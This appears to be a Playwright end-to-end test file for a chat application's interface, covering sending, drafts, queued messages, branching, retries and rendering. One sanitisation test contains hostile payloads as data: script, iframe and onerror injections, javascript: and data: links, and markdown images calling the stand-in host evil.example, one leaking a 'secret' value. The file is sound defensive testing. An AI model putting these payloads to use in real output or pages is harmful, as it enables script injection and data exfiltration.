import { release } from './house.ts'
import { expectTokens } from './numbered-tokens.ts'
import {
  answers,
  composer,
  contentOf,
  expectLive,
  expectStatus,
  lastAnswer,
  messageIdOf,
  openStart,
  questions,
  send,
  sendButton,
  sidebarItem,
} from './page-parts.ts'
import { expect, test } from './test.ts'

test('Enter sends, Shift+Enter starts a line', async ({ page }) => {
  await expect(composer(page)).toBeFocused()
  await page.keyboard.type('say first line')
  await page.keyboard.press('Shift+Enter')
  await page.keyboard.type('second line')
  await expect(composer(page)).toHaveValue('say first line\nsecond line')
  await expect(questions(page)).toHaveCount(0)
  await page.keyboard.press('Enter')
  await expect(contentOf(questions(page))).toHaveText('say first line\nsecond line')
  await expectStatus(lastAnswer(page), 'completed')
  await expect(composer(page)).toHaveValue('')
  await expect(composer(page), 'one goes on writing').toBeFocused()
})

test('Enter that ends a composition of an input method does not send', async ({ page, context }) => {
  const session = await context.newCDPSession(page)
  const enter = { key: 'Enter', code: 'Enter', windowsVirtualKeyCode: 229 }
  await composer(page).focus()
  await page.keyboard.type('say ')
  await session.send('Input.imeSetComposition', { text: 'にほん', selectionStart: 3, selectionEnd: 3 })
  await session.send('Input.dispatchKeyEvent', { type: 'rawKeyDown', ...enter })
  await session.send('Input.dispatchKeyEvent', { type: 'keyUp', ...enter })
  await session.send('Input.insertText', { text: '日本' })
  await expect(composer(page)).toHaveValue('say 日本')
  await expect(questions(page)).toHaveCount(0)
  await page.keyboard.press('Enter')
  await expect(contentOf(questions(page))).toHaveText('say 日本')
})

test('blank text is not sent', async ({ page, house }) => {
  const calls = house.provider.calls
  for (const blank of ['', '   ', '\n\n', '\u200B\u2060']) {
    await composer(page).fill(blank)
    await expect(sendButton(page)).toBeDisabled()
    await composer(page).press('Enter')
    await expect(questions(page)).toHaveCount(0)
  }
  expect(new URL(page.url()).pathname).toBe('/')
  expect(house.provider.calls).toBe(calls)
})

test('a draft survives a reload, here and in another conversation, and is gone once it is sent', async ({ page }) => {
  await composer(page).fill('a first thought')
  await page.reload()
  await expect(composer(page)).toHaveValue('a first thought')
  const conversationId = await send(page, 'say Hello')
  await expectStatus(lastAnswer(page), 'completed')
  await composer(page).fill('half a sen')
  await page.getByTestId('new-conversation').click()
  await expect(composer(page), 'each conversation has its own').toHaveValue('')
  await expect(sidebarItem(page, conversationId).getByTestId('draft-mark')).toHaveText('(unsent draft)')
  await composer(page).fill('something else')
  await page.goto(`${new URL(page.url()).origin}/c/${conversationId}`)
  await expect(composer(page)).toHaveValue('half a sen')
  await expect(page.getByTestId('new-conversation').getByTestId('draft-mark')).toBeVisible()
  await expect(sidebarItem(page, conversationId).getByTestId('draft-mark'), 'what is open shows it itself').toHaveCount(0)
  await composer(page).fill('say Bye')
  await composer(page).press('Enter')
  await expectStatus(lastAnswer(page), 'completed')
  await page.reload()
  await expect(answers(page)).toHaveCount(2)
  await expect(composer(page)).toHaveValue('')
  await page.getByTestId('new-conversation').click()
  await expect(page.getByTestId('draft-mark'), 'what was sent is no draft').toHaveCount(0)
})

test('where Enter starts a line, it does so in every tab, and Ctrl+Enter sends', async ({ page, context, house }) => {
  await page.goto(`${house.url}/?settings=writing`)
  const other = await context.newPage()
  await openStart(other, house.url)
  await page.getByRole('radio', { name: /^Ctrl\+Enter sends/u }).check()
  await composer(other).fill('say One')
  await composer(other).press('Enter')
  await composer(other).pressSequentially('two')
  await expect(composer(other)).toHaveValue('say One\ntwo')
  await composer(other).press('ControlOrMeta+Enter')
  await expect(contentOf(lastAnswer(other))).toContainText('two')
})

test('a long question shows its first lines; it opens when asked, and when something in it is looked for', async ({ page }) => {
  const log = Array.from({ length: 60 }, (_, index) => `line ${index + 1} of a log`).join('\n')
  await send(page, `say Short.\n\n${log}`)
  await expectStatus(lastAnswer(page), 'completed')
  const question = contentOf(questions(page))
  const showAll = questions(page).getByTestId('show-all')
  const height = async () => (await question.boundingBox())?.height ?? 0
  await expect(showAll).toHaveText('Show all 62 lines')
  expect(await height()).toBeLessThan(400)
  await showAll.click()
  await expect(showAll).toHaveText('Show less')
  await expect.poll(height).toBeGreaterThan(1_000)
  await showAll.click()
  await expect.poll(height).toBeLessThan(400)
  await expect(showAll).toBeInViewport()
  await page.keyboard.press('ControlOrMeta+F')
  await page.keyboard.type('line 55 of')
  await expect(showAll).toHaveText('Show less')
  await page.reload()
  await expect(showAll, 'what was opened stays open').toHaveText('Show less')
})

test('a draft is there on the next device, too', async ({ page, api }) => {
  const conversationId = await send(page, 'say Hello')
  await expectStatus(lastAnswer(page), 'completed')
  await composer(page).fill('begun here')
  await expect.poll(async () => (await api.drafts.get.query({ conversationId })).content).toBe('begun here')
})

test('a double click on Send sends one message', async ({ page, house, api }) => {
  const calls = house.provider.calls
  await composer(page).fill('say Once')
  await sendButton(page).dblclick()
  await page.waitForURL('**/c/*')
  await expectStatus(lastAnswer(page), 'completed')
  await expect(questions(page)).toHaveCount(1)
  expect(house.provider.calls - calls).toBe(1)
  const { items } = await api.conversations.list.query({})
  expect(items.map(({ messageCount }) => messageCount)).toEqual([2])
})

test('messages that are written while an answer runs wait for their turn, in order, also when the tab is closed', async ({
  page,
  context,
  house,
  api,
}) => {
  const calls = house.provider.calls
  const conversationId = await send(page, 'tokens 60 at 100 hold after 40')
  await expectTokens(lastAnswer(page), 10)
  for (const content of ['say Second', 'say Third', 'say Fourth']) {
    await composer(page).fill(content)
    await composer(page).press('Enter')
    await expect(composer(page)).toHaveValue('')
  }
  await expect(answers(page)).toHaveCount(4)
  for (const index of [1, 2, 3]) {
    await expectStatus(answers(page).nth(index), 'queued')
    await expect(answers(page).nth(index)).toContainText('Waiting for its turn')
  }
  // They need no page to be sent: the server has them.
  await page.close()
  await release(house)
  await expect.poll(async () => (await api.messages.status.query({ conversationId })).hasActiveGeneration).toBe(false)
  const reopened = await context.newPage()
  await reopened.goto(`${house.url}/c/${conversationId}`)
  await expect(answers(reopened)).toHaveCount(4)
  for (const index of [0, 1, 2, 3]) await expectStatus(answers(reopened).nth(index), 'completed')
  expect(await contentOf(answers(reopened)).allTextContents()).toEqual([
    expect.stringContaining('t60'),
    'Second',
    'Third',
    'Fourth',
  ])
  await expect(questions(reopened)).toHaveCount(4)
  expect(house.provider.calls - calls, 'one call of the provider for each').toBe(4)
})

test('10,000 characters are fine, 10,001 are refused kindly, and nothing of them is lost', async ({ page, house }) => {
  const calls = house.provider.calls
  const tooLong = `say ${'x'.repeat(9_996)}!`
  await composer(page).fill(tooLong)
  await expect(page.getByText('10,001 of 10,000')).toBeVisible()
  await expect(sendButton(page)).toBeDisabled()
  await composer(page).press('Enter')
  await expect(composer(page)).toHaveValue(tooLong)
  expect(house.provider.calls).toBe(calls)
  await composer(page).press('End')
  await composer(page).press('ControlOrMeta+End')
  await composer(page).press('Backspace')
  await expect(page.getByText('10,000 of 10,000')).toBeVisible()
  await sendButton(page).click()
  await expectStatus(lastAnswer(page), 'completed')
  expect((await contentOf(lastAnswer(page)).textContent())?.length).toBe(9_996)
})

test('regenerate makes another version beside the first, and both can be read', async ({ page }) => {
  await send(page, 'say Hello')
  await expectStatus(lastAnswer(page), 'completed')
  const first = await messageIdOf(lastAnswer(page))
  await lastAnswer(page).getByTestId('regenerate').click()
  const versions = lastAnswer(page).getByTestId('branch-switcher')
  await expect(versions).toContainText('2 / 2')
  await expectStatus(lastAnswer(page), 'completed')
  const second = await messageIdOf(lastAnswer(page))
  expect(second).not.toBe(first)
  await versions.getByRole('button', { name: 'Previous version' }).click()
  await expect(versions).toContainText('1 / 2')
  expect(await messageIdOf(lastAnswer(page))).toBe(first)
  await page.reload()
  await expect(versions, 'this tab stays with its choice').toContainText('1 / 2')
  await versions.getByRole('button', { name: 'Next version' }).click()
  await expect(versions).toContainText('2 / 2')
  expect(await messageIdOf(lastAnswer(page))).toBe(second)
})

test('an edited question starts a branch; what followed the first version stays', async ({ page, api }) => {
  const conversationId = await send(page, 'say One')
  await expectStatus(lastAnswer(page), 'completed')
  await send(page, 'say Two')
  await expect(answers(page)).toHaveCount(2)
  await expectStatus(lastAnswer(page), 'completed')
  const firstQuestion = questions(page).first()
  await firstQuestion.hover()
  await firstQuestion.getByTestId('edit').click()
  await page.getByTestId('edit-input').fill('say Uno')
  await page.getByTestId('edit-send').click()
  await expect(contentOf(lastAnswer(page))).toHaveText('Uno')
  await expect(answers(page)).toHaveCount(1)
  await expect(firstQuestion.getByTestId('branch-switcher')).toContainText('2 / 2')
  await firstQuestion.getByRole('button', { name: 'Previous version' }).click()
  await expect(answers(page)).toHaveCount(2)
  await expect(contentOf(lastAnswer(page))).toHaveText('Two')
  expect((await api.messages.list.query({ conversationId })).messageCount).toBe(6)
})

test('a provider that fails twice is asked again, and the page says so', async ({ page, house }) => {
  const calls = house.provider.calls
  await send(page, 'error 503 x2 then tokens 5')
  await expect(page.getByTestId('retry-notice')).toContainText(/scripted-1 did not answer: it is overloaded\. Try [23] of 3/u)
  await expectStatus(lastAnswer(page), 'completed')
  await expect(contentOf(lastAnswer(page))).toHaveText(/^t1 t2 t3 t4 t5/u)
  expect(house.provider.calls - calls).toBe(3)
})

test('a provider that breaks off in mid-answer: the text stays, the reason is said, Try again makes another version', async ({
  page,
}) => {
  await send(page, 'tokens 50 at 100 drop after 20')
  await expectStatus(lastAnswer(page), 'error')
  // What is still on the wire when it breaks is the network's.
  const shown = await expectTokens(lastAnswer(page), 1)
  await expect(lastAnswer(page)).toContainText('Everything up to here is saved.')
  await expect(lastAnswer(page).getByTestId('continue')).toBeVisible()
  await page.reload()
  expect(await expectTokens(lastAnswer(page), 1)).toBe(shown)
  await lastAnswer(page).getByTestId('regenerate').click()
  await expect(lastAnswer(page).getByTestId('branch-switcher')).toContainText('2 / 2')
})

test('what a model writes can run nothing, load nothing and send nothing', async ({ page, house }) => {
  const dialogs: string[] = []
  const foreign: string[] = []
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  page.on('request', (request) => {
    if (!request.url().startsWith(house.url) && !request.url().startsWith('data:')) foreign.push(request.url())
  })
  page.on('console', (line) => {
    if (line.text().includes('stolen')) foreign.push(line.text())
  })
  const hostile = [
    '<img src="https://evil.example/a.png" onerror="alert(1)">',
    '<script>alert(2)</script>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<style>body { background: url(https://evil.example/b.png) }</style>',
    '![a picture](https://evil.example/c.png?said=secret)',
    '![by reference][pixel]',
    '[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [vb](vbscript:msgbox)',
    '[fine](https://example.org/page)',
    '<a href="https://evil.example" onclick="alert(5)">raw</a>',
    '',
    '[pixel]: https://evil.example/d.png',
  ].join('\n\n')
  await send(page, `say ${hostile}`)
  await expectStatus(lastAnswer(page), 'completed')
  const content = contentOf(lastAnswer(page))
  const fine = content.getByRole('link', { name: 'fine' })
  await expect(fine).toHaveAttribute('href', 'https://example.org/page')
  await expect(fine).toHaveAttribute('rel', /noopener/u)
  await expect(content.locator('img, script, iframe, style, object, embed, form, video, audio')).toHaveCount(0)
  await expect(content.locator('[onclick], [onerror], [style*=url]')).toHaveCount(0)
  const addresses = await content.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
  expect(
    addresses.every((address) => /^(?:https?:|mailto:|#)/u.test(address)),
    addresses.join('\n'),
  ).toBe(true)
  await expect(content, 'a picture waits for a click, and says where it comes from').toContainText(
    'Show picture: a picture (evil.example)',
  )
  await expect(content).toContainText('<script>alert(2)</script>')
  await page.reload()
  await expect(content).toContainText('Show picture: a picture (evil.example)')
  expect(dialogs).toEqual([])
  expect(foreign).toEqual([])
})

test('formatted text is formatted: a table, code, a list', async ({ page }) => {
  await send(page, 'say # Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = 1\n```\n\n- one\n- two')
  await expectStatus(lastAnswer(page), 'completed')
  const content = contentOf(lastAnswer(page))
  await expect(content.getByRole('heading', { name: 'Title' })).toBeVisible()
  await expect(content.getByRole('cell', { name: '2' })).toBeVisible()
  await expect(content.locator('pre code')).toHaveText('const x = 1\n')
  await expect(content.getByRole('listitem')).toHaveCount(2)
})

test('the page can be used by keyboard alone', async ({ page, house }) => {
  await openStart(page, house.url)
  await expect(composer(page)).toBeFocused()
  await page.keyboard.type('tokens 3000 at 50')
  await page.keyboard.press('Enter')
  await expectTokens(lastAnswer(page), 5)
  await page.keyboard.press('Escape')
  await expectStatus(lastAnswer(page), 'cancelled')
  await page.keyboard.press('ControlOrMeta+Shift+O')
  await expect(page).toHaveURL(`${house.url}/`)
  await expect(composer(page)).toBeFocused()
  await expectLive(page)
})
